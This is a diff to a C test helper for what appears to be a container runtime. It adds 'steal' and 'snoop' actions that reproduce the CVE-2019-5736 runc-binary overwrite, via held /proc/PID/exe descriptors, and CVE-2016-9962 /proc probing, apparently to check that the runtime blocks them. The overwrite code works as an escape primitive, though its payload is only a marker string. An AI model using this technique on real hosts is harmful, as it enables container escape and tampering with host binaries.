@@ -6,6 +6,7 @@
  *
  *     guest ids , umask , capabilities , exit 7
  */
+#include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
 #include <linux/capability.h>
@@ -473,6 +474,98 @@ static int do_read_descriptor(char **words)
     return 0;
 }
 
+/* Is it a process of the container's own programs, told by the files we may compare with? */
+static bool runs_own_program(const char *process)
+{
+    char path[300];
+    struct stat theirs, ours;
+    snprintf(path, sizeof(path), "/proc/%s/exe", process);
+    if (stat(path, &theirs) < 0)
+        return true;
+    static const char *const own[] = { "/bin/guest", "/bin/busybox" };
+    for (size_t i = 0; i < sizeof(own) / sizeof(*own); i++)
+        if (stat(own[i], &ours) == 0 && ours.st_dev == theirs.st_dev &&
+            ours.st_ino == theirs.st_ino)
+            return true;
+    return false;
+}
+
+/* Call `visit` with the pid of each other process, again and again for that many seconds. */
+static void visit_processes(unsigned long seconds,
+                            void (*visit)(const char *process, void *context), void *context)
+{
+    time_t end = time(NULL) + (time_t)seconds;
+    while (time(NULL) < end) {
+        DIR *directory = opendir("/proc");
+        for (struct dirent *entry; directory && (entry = readdir(directory));)
+            if (*entry->d_name >= '1' && *entry->d_name <= '9' && atoi(entry->d_name) != getpid())
+                visit(entry->d_name, context);
+        if (directory)
+            closedir(directory);
+    }
+}
+
+/* CVE-2019-5736: hold the program file of whoever comes in, and write into it when he has gone. */
+struct thief {
+    int held[64];
+    size_t count;
+};
+
+static void hold_program(const char *process, void *context)
+{
+    struct thief *thief = context;
+    char path[300];
+    if (runs_own_program(process) || thief->count == 64)
+        return;
+    snprintf(path, sizeof(path), "/proc/%s/exe", process);
+    int fd = open(path, O_RDONLY | O_CLOEXEC);
+    if (fd >= 0)
+        thief->held[thief->count++] = fd;
+}
+
+static int do_steal(char **words)
+{
+    struct thief thief = { 0 };
+    visit_processes(number(words[0]), hold_program, &thief);
+    int written = 0;
+    for (size_t i = 0; i < thief.count; i++) {
+        char path[64];
+        snprintf(path, sizeof(path), "/proc/self/fd/%d", thief.held[i]);
+        int fd = open(path, O_WRONLY | O_CLOEXEC);
+        written += fd >= 0 && write(fd, "stolen", 6) == 6;
+    }
+    printf("held=%zu\nwritten=%d\n", thief.count, written);
+    return 0;
+}
+
+/* CVE-2016-9962: look into whoever comes in, by its descriptors, its root and its memory. */
+static void look_into(const char *process, void *context)
+{
+    (void)context;
+    static const char *const doors[] = { "fd", "root/", "cwd/", "mem" };
+    char path[300], name[64] = "";
+    snprintf(path, sizeof(path), "/proc/%s/comm", process);
+    FILE *file = fopen(path, "re");
+    if (!file)
+        return;
+    (void)!fscanf(file, "%63[^\n]", name);
+    fclose(file);
+    for (size_t i = 0; i < sizeof(doors) / sizeof(*doors); i++) {
+        snprintf(path, sizeof(path), "/proc/%.64s/%s", process, doors[i]);
+        int fd = open(path, O_RDONLY | O_CLOEXEC);
+        if (fd < 0)
+            continue;
+        close(fd);
+        printf("into.%s/%s=1\n", name, doors[i]);
+    }
+}
+
+static int do_snoop(char **words)
+{
+    visit_processes(number(words[0]), look_into, NULL);
+    return 0;
+}
+
 static const struct action actions[] = {
     { "affinity", "", print_affinity },
     { "arguments", "[WORD...]", print_arguments },
@@ -506,7 +599,9 @@ static const struct action actions[] = {
     { "scheduler", "", print_scheduler },
     { "signals", "", print_signals },
     { "sleep", "SECONDS", do_sleep },
+    { "snoop", "SECONDS", do_snoop },
     { "stat", "PATH", print_status_of },
+    { "steal", "SECONDS", do_steal },
     { "syscall", "NUMBER [ARGUMENT...]", do_syscall },
     { "terminal", "", print_terminal },
     { "umask", "", print_umask },
